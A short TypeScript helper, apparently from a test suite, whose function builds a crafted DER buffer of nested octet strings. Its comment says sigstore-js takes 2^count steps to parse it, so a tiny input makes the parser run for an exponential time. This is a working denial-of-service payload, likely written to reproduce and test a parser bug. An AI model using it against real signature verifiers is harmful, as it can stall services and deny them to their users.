/**
 * DER that takes sigstore-js 2^count steps to read: octet strings whose content seems to begin an element that
 * takes up all that follows. 100 bytes for 25 of them.
 */
export function endlessDer(count: number): Buffer {
  let rest: Buffer = Buffer.from([0x05, 0]);
  for (let at = 0; at < count; at++) {
    rest = Buffer.concat([Buffer.from([0x04, 2, 0x30, rest.length]), rest]);
  }
  return Buffer.concat([Buffer.from([0x30, rest.length]), rest]);
}
